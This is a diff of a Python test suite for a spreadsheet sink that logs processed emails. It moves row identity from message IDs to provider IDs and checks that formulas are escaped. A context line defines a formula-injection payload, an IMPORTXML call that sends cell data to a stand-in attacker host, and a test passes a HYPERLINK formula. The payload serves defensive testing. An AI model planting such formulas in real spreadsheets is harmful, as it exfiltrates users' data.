@@ -27,7 +27,7 @@ EVIL = '=IMPORTXML("http://attacker.example/?"&A2,"//a")'
 def row(n: int, **fields: Any) -> dict[str, Any]:
     base: dict[str, Any] = {f: "" for f in AUDIT_FIELDS}
     base.update(processed_at=f"2026-03-0{n % 9 + 1}T10:00:00+00:00", message_id=f"<m{n}@mail.example>",
-                subject=f"Quote request {n}", category="lead", confidence=0.91)
+                provider_id=f"p{n}", subject=f"Quote request {n}", category="lead", confidence=0.91)
     base.update(fields)
     return base
 
@@ -119,7 +119,15 @@ def test_retry_after_a_landed_append_writes_only_the_missing_rows(env: Env) -> N
     restarted.write([row(1), row(2), row(3)], retry=True)  # all there: no append at all
     assert env.message_ids() == ["<m1@mail.example>", "<m2@mail.example>", "<m3@mail.example>"]
     assert len(env.appends()) == 2
-    assert len(env.srv.requests(r"C1%3AC$", "GET")) == 2  # one message_id column read per retried call
+    assert len(env.srv.requests(r"E1%3AE$", "GET")) == 2  # one provider_id column read per retried call
+
+
+def test_a_retry_tells_two_mails_with_one_message_id_apart(env: Env) -> None:
+    """Identity is the mailbox's id: the row of a second mail that reuses a Message-ID is still written, once."""
+    env.sink.write([row(1)], retry=False)
+    env.new_sink().write([row(1), row(1, provider_id="p2")], retry=True)
+    env.new_sink().write([row(1, provider_id="p2")], retry=True)
+    assert env.message_ids() == ["<m1@mail.example>", "<m1@mail.example>"]
 
 
 def test_a_lost_response_is_retried_without_duplicating(env: Env) -> None:
@@ -138,7 +146,7 @@ def test_429_waits_for_retry_after_and_does_not_reread(env: Env) -> None:
     env.sink.write([row(1)], retry=False)
     assert len(env.sleeps) == 1 and 7 <= env.sleeps[0] <= 7.7
     assert env.message_ids() == ["<m1@mail.example>"]
-    assert env.srv.requests(r"C1%3AC$") == []  # a 429 is refused before writing: no need to look
+    assert env.srv.requests(r"E1%3AE$") == []  # a 429 is refused before writing: no need to look
 
 
 def test_outage_raises_sink_unavailable_after_the_retries(env: Env) -> None:
@@ -213,17 +221,17 @@ def test_update_fills_in_the_row_of_the_message_and_nothing_else(env: Env) -> No
     sheet.put(2, HEADER.index("summary"), "a person's note in our column", formula=False)
     sheet.put(2, len(HEADER), "called back", formula=False)
     env.srv.log.clear()
-    missing = env.sink.update([{"message_id": "<m2@mail.example>", "answered_by": "alice@acme-pumps.example",
-                                "followup": "=HYPERLINK(\"http://x\")"},
-                               {"message_id": "<gone@mail.example>", "answered_by": "x"}])
-    assert missing == {"<gone@mail.example>"}
+    missing = env.sink.update([{"provider_id": "p2", "message_id": "<m2@mail.example>",
+                                "answered_by": "alice@acme-pumps.example", "followup": "=HYPERLINK(\"http://x\")"},
+                               {"provider_id": "p-gone", "message_id": "<gone@mail.example>", "answered_by": "x"}])
+    assert missing == {"p-gone"}
     values = env.fake.values("Decisions")
     assert values[2][HEADER.index("answered_by")] == "alice@acme-pumps.example"
     assert values[2][HEADER.index("followup")] == "'=HYPERLINK(\"http://x\")" and sheet.formulas == set()
     assert values[2][HEADER.index("summary")] == "a person's note in our column"
     assert values[2][len(HEADER)] == "called back"
     assert values[1][HEADER.index("answered_by")] == values[3][HEADER.index("answered_by")] == ""
-    assert len(env.srv.requests(r"/values/", "GET")) == 1  # the message_id column
+    assert len(env.srv.requests(r"/values/", "GET")) == 1  # the provider_id column
     assert len(env.srv.requests(r"values:batchUpdate$", "POST")) == 1  # every cell in one write
 
 
@@ -236,7 +244,8 @@ def test_a_tab_of_the_first_layout_gets_the_later_columns_after_the_columns_peop
     assert values[1][len(V1)] == "called back on Monday"
     assert values[2][MID] == "<m1@mail.example>" and values[2][len(V1)] == ""  # nothing under "notes"
     assert values[2][len(V1) + 1 + LATER.index("answered_by")] == "bob@acme-pumps.example"
-    env.sink.update([{"message_id": "<m0@mail.example>", "answered_at": "2026-03-02T11:00:00+00:00"}])
+    env.sink.update([{"provider_id": "p0", "message_id": "<m0@mail.example>",
+                      "answered_at": "2026-03-02T11:00:00+00:00"}])
     assert env.fake.values("Decisions")[1][len(V1) + 1] == "2026-03-02T11:00:00+00:00"
     assert env.fake.values("Decisions")[1][len(V1)] == "called back on Monday"
 
